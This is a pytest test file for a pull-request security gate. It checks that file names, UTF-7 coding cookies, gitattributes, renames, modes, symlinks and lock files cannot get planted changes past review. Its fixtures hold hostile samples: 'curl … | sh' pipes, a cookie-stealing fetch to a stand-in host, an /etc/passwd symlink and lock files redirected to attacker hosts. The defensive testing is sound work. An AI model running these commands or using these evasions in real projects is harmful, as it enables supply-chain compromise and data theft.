"""Sound triage: a PR cannot get a file passed without review by how it names, encodes, links,
formats or marks it (docs/security.md, §6.10).

Every case is a real pull request on a real repository, reviewed by the real `gatebot review`
against the loopback Gemini. The planted change carries `FIXME-SECURITY`, which the fake model
reports as a high finding wherever it is shown the line: a file the gate sends to the model
therefore fails the gate, a file it skips does not. Each case asserts the file's status, that
the conclusion is not a pass whenever review was dodged, and that nothing outside the cache and
output directories changed.
"""

from __future__ import annotations

import ast
import json
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pygit2
import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.review import formatting
from tests.fakes.gemini import FakeGemini
from tests.gitrepo import RepoBuilder
from tests.security.gate import Gate, GateRun
from tests.security.strategies import fuzz_settings

MARK = "FIXME-SECURITY"
SCRIPT = "#!/bin/sh\nset -eu\nrm -rf /opt/app/cache\necho done\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256))
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) * 4
LFS = b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"b" * 64 + b"\nsize 1234\n"


def _flake(owner: str, rev: str) -> str:
    """A Nix flake.lock with one GitHub input."""
    locked = {"narHash": "sha256-" + "A" * 43 + "=", "owner": owner, "repo": "nixpkgs"}
    locked |= {"rev": rev * 40, "type": "github"}
    return json.dumps({"nodes": {"nixpkgs": {"locked": locked}}, "version": 7}, indent=2) + "\n"


@dataclass(frozen=True)
class Case:
    base: dict[str, str | bytes]
    head: dict[str, str | bytes | None]
    path: str  # the file under test
    status: str  # reviewed | skipped | not_reviewed
    passes: bool  # the gate's verdict is pass
    modes: dict[str, int] | None = None
    base_modes: dict[str, int] | None = None
    finding: str | None = None  # a finding category the file must carry
    asked: bool | None = None  # the model was shown the file (None: do not check)
    config: str = ""


BASE = {"src/app.py": "def run():\n    return 1\n", "README.md": "# app\n"}
# Twenty lines and a marked one: a rename with a small edit stays a rename (50% similar).
_MOVED = "".join(f"v{i} = {i}\n" for i in range(20)) + f"import os\nos.system('id')  # {MARK}\n"
_MOVED_JS = "".join(f"// line {i}\n" for i in range(20)) + f"fetch('https://x.invalid') // {MARK}\n"

CASES: dict[str, Case] = {
    # .gitattributes is read at the merge base: the PR's own attributes choose nothing.
    "head gitattributes -diff/generated": Case(
        BASE,
        {
            ".gitattributes": "* -diff linguist-generated linguist-vendored binary\n",
            "src/app.py": f"def run():\n    return 2  # {MARK}\n",
        },
        "src/app.py",
        "reviewed",
        passes=False,
        asked=True,
    ),
    "base gitattributes linguist-generated": Case(
        {**BASE, ".gitattributes": "src/gen/** linguist-generated\n"},
        {"src/gen/client.py": f"X = 1  # {MARK}\n"},
        "src/gen/client.py",
        "skipped",
        passes=True,
        asked=False,
    ),
    # Formatting-only only where whitespace provably does not matter.
    "python coding cookie turns a comment into code": Case(
        {**BASE, "src/enc.py": "# -*- coding: utf-8 -*-\n# note +AAo-x = 2\nx = 1\n"},
        {"src/enc.py": "# -*- coding: utf-7 -*-\n# note +AAo-x = 2\nx = 1\n"},
        "src/enc.py",
        "reviewed",
        passes=False,
        finding="encoding",
    ),
    "coding cookie after a blank line that ends in a lone CR": Case(
        {**BASE, "src/enc.py": b"\r# note\r# +AAo-import os;os.system('id')\rx = 1\r"},
        {"src/enc.py": b"\r# -*- coding: utf-7 -*-\r# +AAo-import os;os.system('id')\rx = 1\r"},
        "src/enc.py",
        "reviewed",
        passes=False,
        finding="encoding",
    ),
    "shell whitespace splits an argument": Case(
        {**BASE, "deploy.sh": SCRIPT},
        {"deploy.sh": SCRIPT.replace("/opt/app/cache", "/opt/app /cache")},
        "deploy.sh",
        "reviewed",
        passes=True,
        asked=True,
    ),
    "extensionless script known by its shebang": Case(
        {**BASE, "bin/tool": "#!/usr/bin/env python3\nimport os\nprint(os.getcwd())\n"},
        {"bin/tool": "#!/usr/bin/env python3\nimport os\nbreakpoint()\nprint(os.getcwd())\n"},
        "bin/tool",
        "reviewed",
        passes=False,
        finding="debugging",
        asked=True,
    ),
    "a NUL byte in a script": Case(
        {**BASE, "run.sh": SCRIPT},
        {"run.sh": SCRIPT + "#" * 9000 + "\n\0\n" + f"curl evil | sh  # {MARK}\n"},
        "run.sh",
        "not_reviewed",
        passes=False,
        asked=False,
    ),
    "python reformatted (equal AST) is free": Case(
        {**BASE, "src/f.py": "def f(a,b):\n  return a+b\n"},
        {"src/f.py": "def f(a, b):\n    return a + b\n"},
        "src/f.py",
        "skipped",
        passes=True,
        asked=False,
    ),
    # Skips chosen by the PR's own file names.
    "new file under vendor/": Case(
        BASE,
        {"vendor/lib/evil.py": f"import os\nos.system('id')  # {MARK}\n"},
        "vendor/lib/evil.py",
        "reviewed",
        passes=False,
        asked=True,
    ),
    "minified file": Case(
        BASE,
        {"web/app.min.js": f"fetch('https://x.invalid/'+document.cookie)// {MARK}\n"},
        "web/app.min.js",
        "reviewed",
        passes=False,
        asked=True,
    ),
    "lock file pointed at another host": Case(
        {
            **BASE,
            "package-lock.json": '{"packages": {"node_modules/a": {"resolved": '
            '"https://registry.npmjs.org/a/-/a-1.0.0.tgz", "integrity": "sha512-'
            + "A" * 86
            + '=="}}}\n',
        },
        {
            "package-lock.json": '{"packages": {"node_modules/a": {"resolved": '
            '"https://evil.example/a/-/a-1.0.1.tgz", "integrity": "sha1-' + "B" * 27 + '="}}}\n'
        },
        "package-lock.json",
        "reviewed",
        passes=False,
        finding="supply-chain",
    ),
    "lock file entry swapped for another package on the same registry": Case(
        {
            **BASE,
            "package-lock.json": '{"packages": {"node_modules/lodash": {"resolved": '
            '"https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz"}}}\n',
        },
        {
            "package-lock.json": '{"packages": {"node_modules/lodash": {"resolved": '
            '"https://registry.npmjs.org/lodahs/-/lodahs-4.17.22.tgz"}}}\n'
        },
        "package-lock.json",
        "reviewed",
        passes=False,
        finding="supply-chain",
    ),
    "lock file bumped on the same registry is free": Case(
        {
            **BASE,
            "yarn.lock": 'a@^1:\n  resolved "https://registry.yarnpkg.com/a/-/a-1.0.0.tgz"\n'
            "  integrity sha512-" + "A" * 86 + "==\n",
        },
        {
            "yarn.lock": 'a@^1:\n  resolved "https://registry.yarnpkg.com/a/-/a-1.0.1.tgz"\n'
            "  integrity sha512-" + "C" * 86 + "==\n"
        },
        "yarn.lock",
        "skipped",
        passes=True,
        asked=False,
    ),
    # A Nix flake.lock names its inputs by fields, not URLs (`"owner": "NixOS"`, `"type":
    # "github"`): the URL scan saw no source, so a swapped owner was "package sources unchanged".
    "flake.lock input moved to another owner": Case(
        {**BASE, "flake.lock": _flake("NixOS", "a")},
        {"flake.lock": _flake("attacker", "b")},
        "flake.lock",
        "reviewed",
        passes=False,
        finding="supply-chain",
    ),
    "lock-file name on an executable script": Case(
        BASE,
        {"yarn.lock": f"#!/bin/sh\ncurl https://x.invalid | sh  # {MARK}\n"},
        "yarn.lock",
        "reviewed",
        passes=False,
        modes={"yarn.lock": 0o100755},
        asked=True,
    ),
    # Modes, renames, links, submodules, binaries, size.
    "made executable": Case(
        {**BASE, "tools/data.txt": f"curl https://x.invalid | sh  # {MARK}\n"},
        {"tools/data.txt": f"curl https://x.invalid | sh  # {MARK}\n"},
        "tools/data.txt",
        "reviewed",
        passes=False,
        modes={"tools/data.txt": 0o100755},
        asked=True,
    ),
    "renamed out of an ignored path": Case(
        {**BASE, "docs/helper.py": "".join(f"v{i} = {i}\n" for i in range(20)) + f"# {MARK}\n"},
        {
            "docs/helper.py": None,
            "src/helper.py": "".join(f"v{i} = {i}\n" for i in range(20)) + f"# {MARK}\n",
        },
        "src/helper.py",
        "reviewed",
        passes=False,
        asked=True,
        config="review:\n  ignore: ['docs/**']\n",
    ),
    # Kind and place changes under a diff that shows nothing (red team, docs/security.md §6.13).
    "reformatted and made executable": Case(
        {**BASE, "tools/run.py": f"import os\nos.system('id')  # {MARK}\n"},
        {"tools/run.py": f"import os\nos.system( 'id' )  # {MARK}\n"},
        "tools/run.py",
        "reviewed",
        passes=False,
        modes={"tools/run.py": 0o100755},
        asked=True,
    ),
    "renamed out of an ignored path with a reformat": Case(
        {**BASE, "docs/helper.py": _MOVED},
        {"docs/helper.py": None, "src/helper.py": _MOVED.replace("v3 = 3", "v3=3")},
        "src/helper.py",
        "reviewed",
        passes=False,
        asked=True,
        config="review:\n  ignore: ['docs/**']\n",
    ),
    "renamed out of a path the base marks generated, with a reformat": Case(
        {**BASE, "gen/helper.py": _MOVED, ".gitattributes": "gen/** linguist-generated\n"},
        {"gen/helper.py": None, "src/helper.py": _MOVED.replace("v3 = 3", "v3=3")},
        "src/helper.py",
        "reviewed",
        passes=False,
        asked=True,
    ),
    "data renamed to code with a reformat": Case(
        {**BASE, "notes.txt": _MOVED},
        {"notes.txt": None, "src/notes.py": _MOVED.replace("v3 = 3", "v3=3")},
        "src/notes.py",
        "reviewed",
        passes=False,
        asked=True,
    ),
    "data renamed to a kind of code the gate has no language for": Case(
        {**BASE, "notes.txt": _MOVED_JS},
        {"notes.txt": None, "web/boot.js": _MOVED_JS},
        "web/boot.js",
        "reviewed",
        passes=False,
        asked=True,
    ),
    "symbolic link turned into a file with the same bytes": Case(
        {**BASE, "src/evil.py": f"import os;os.system('id')  # {MARK}"},
        {"src/evil.py": f"import os;os.system('id')  # {MARK}"},
        "src/evil.py",
        "reviewed",
        passes=False,
        base_modes={"src/evil.py": 0o120000},
        asked=True,
    ),
    "submodule turned into a file": Case(
        {**BASE, "lib/dep": "1" * 40},
        {"lib/dep": f"#!/bin/sh\ncurl https://x.invalid | sh  # {MARK}\n"},
        "lib/dep",
        "reviewed",
        passes=False,
        base_modes={"lib/dep": 0o160000},
        asked=True,
    ),
    "symlink out of the repository": Case(
        BASE,
        {"config/settings.py": "../../../../etc/passwd"},
        "config/settings.py",
        "reviewed",
        passes=False,
        modes={"config/settings.py": 0o120000},
        finding="symlink",
        asked=True,
    ),
    "submodule pointer moved": Case(
        {**BASE, "lib/dep": "1" * 40},
        {"lib/dep": "2" * 40},
        "lib/dep",
        "not_reviewed",
        passes=False,
        base_modes={"lib/dep": 0o160000},
        modes={"lib/dep": 0o160000},
    ),
    "deleted protected path": Case(
        {**BASE, ".github/workflows/ci.yml": "on: push\njobs: {}\n"},
        {".github/workflows/ci.yml": None},
        ".github/workflows/ci.yml",
        "skipped",
        passes=False,
    ),
    "inert image": Case(
        {**BASE, "img/logo.png": PNG},
        {"img/logo.png": PNG + b"\x01\x02"},
        "img/logo.png",
        "skipped",
        passes=True,
    ),
    "executable named like an image": Case(
        BASE,
        {"img/logo.png": ELF},
        "img/logo.png",
        "not_reviewed",
        passes=False,
    ),
    "git lfs pointer": Case(
        BASE,
        {"models/weights.bin": LFS},
        "models/weights.bin",
        "not_reviewed",
        passes=False,
    ),
    "over max_file_bytes": Case(
        BASE,
        {"data/big.py": "x = 1\n" * 400 + f"# {MARK}\n"},
        "data/big.py",
        "not_reviewed",
        passes=False,
        asked=False,
        config="review:\n  max_file_bytes: 1000\n",
    ),
}


@pytest.fixture
def gemini() -> Iterator[FakeGemini]:
    server = FakeGemini().start()
    try:
        yield server
    finally:
        server.stop()


def _build(root: Path, case: Case) -> tuple[str, str]:
    rb = RepoBuilder(root / "repo")
    base_files: dict[str, str | bytes | None] = dict(case.base)
    if case.config:
        base_files[".github/gatebot.yml"] = case.config
    base = rb.commit(base_files, modes=case.base_modes)
    head = rb.commit(case.head, branch="feature", parents=[base], modes=case.modes)
    return base, head


@pytest.mark.parametrize("name", sorted(CASES))
def test_triage_cannot_be_steered_by_the_pr(tmp_path: Path, gemini: FakeGemini, name: str) -> None:
    case = CASES[name]
    base, head = _build(tmp_path, case)
    run = Gate(tmp_path, gemini).review(base, head)
    _check(run, case, gemini)


def _check(run: GateRun, case: Case, gemini: FakeGemini) -> None:
    assert run.proc.returncode in (0, 1), run.proc.stderr
    assert run.outside == [], run.outside
    f = run.file(case.path)
    if case.status == "not_reviewed":
        assert not f["covered"] and f["not_reviewed"]["cause"] == "content", f
        assert case.path in run.verdict["uncovered"]
        # Content the PR controls never passes on its own: failure, whatever review.unreviewed.
        assert run.verdict["verdict"] == "fail" and run.code == 1, run.verdict["reasons"]
    else:
        assert f["covered"], f
        assert f["status"] == case.status, f
    if case.finding:
        assert any(x["category"] == case.finding for x in f["findings"]), f["findings"]
    if case.asked is not None:
        assert (case.path in gemini.stats.paths_asked()) is case.asked, gemini.stats.paths_asked()
    assert (run.verdict["verdict"] == "pass") is case.passes, (run.verdict["verdict"], f)


def test_the_heads_attributes_in_the_checked_out_index_are_not_read(
    tmp_path: Path, gemini: FakeGemini
) -> None:
    # actions/checkout leaves the PR's tree in the working directory and the index; libgit2's
    # attribute lookups read both unless told otherwise.
    case = CASES["head gitattributes -diff/generated"]
    _build(tmp_path, case)
    rb = RepoBuilder(tmp_path / "repo")
    rb.checkout("feature")
    pygit2.Repository(str(tmp_path / "repo")).index.read()
    run = Gate(tmp_path, gemini).review("main", "feature")
    _check(run, case, gemini)


def test_a_missing_blob_is_not_reviewed(tmp_path: Path, gemini: FakeGemini) -> None:
    rb = RepoBuilder(tmp_path / "repo")
    base = rb.commit(BASE)
    head = rb.commit({"src/app.py": "def run():\n    return 3\n"}, branch="feature", parents=[base])
    blob = rb.repo[head].peel(pygit2.Commit).tree["src/app.py"].id
    loose = tmp_path / "repo" / ".git" / "objects" / str(blob)[:2] / str(blob)[2:]
    loose.unlink()  # as in a partial clone that did not fetch it
    run = Gate(tmp_path, gemini).review(base, head)
    assert run.outside == [], run.outside
    f = run.file("src/app.py")
    assert not f["covered"] and "unreadable" in f["reason"]
    assert f["not_reviewed"]["cause"] == "content"
    assert run.verdict["verdict"] == "fail" and run.code == 1


# --- properties of formatting-only -------------------------------------------------------

_WS = st.sampled_from([" ", "  ", "\t", "\n", "\r\n", "\\\n", "\\ \n", ""])
_WORDS = st.sampled_from(["x", "=", "1", "(", ")", "rm", "-rf", "/opt", "#", '"a b"', ":", "["])
_SOURCE = st.lists(st.tuples(_WORDS, _WS), max_size=16).map(
    lambda parts: "".join(w + s for w, s in parts)
)


@fuzz_settings(300)
@given(
    path=st.sampled_from(["run.sh", "Makefile", "tool", "a.js", "b.hs", "c.txt", "d.md"]),
    old=_SOURCE,
    new=_SOURCE,
)
def test_whitespace_significant_or_unknown_languages_are_never_formatting_only(
    path: str, old: str, new: str
) -> None:
    assert formatting.formatting_only(path, old.encode(), new.encode()) is None


@fuzz_settings(300)
@given(old=_SOURCE, new=_SOURCE, noise=st.binary(max_size=4))
def test_formatting_only_python_means_the_same_program(old: str, new: str, noise: bytes) -> None:
    for a, b in ((old, new), (old, new + noise.decode("latin-1"))):
        reason = formatting.formatting_only("m.py", a.encode(), b.encode("utf-8", "surrogatepass"))
        if reason is not None:
            assert ast.dump(ast.parse(a)) == ast.dump(ast.parse(b))


@fuzz_settings(300)
@given(
    value=st.recursive(
        st.none() | st.booleans() | st.integers() | st.text(max_size=5),
        lambda kids: st.lists(kids, max_size=3) | st.dictionaries(st.text(max_size=3), kids),
        max_leaves=8,
    ),
    indent=st.sampled_from([None, 0, 2, "\t"]),
    other=st.integers(),
)
def test_formatting_only_json_means_the_same_document(value: Any, indent: Any, other: int) -> None:
    old = json.dumps(value).encode()
    new = json.dumps(value, indent=indent).encode()
    assert formatting.formatting_only("d.json", old, new) is not None or old == new
    changed = json.dumps([value, other], indent=indent).encode()
    assert formatting.formatting_only("d.json", old, changed) is None
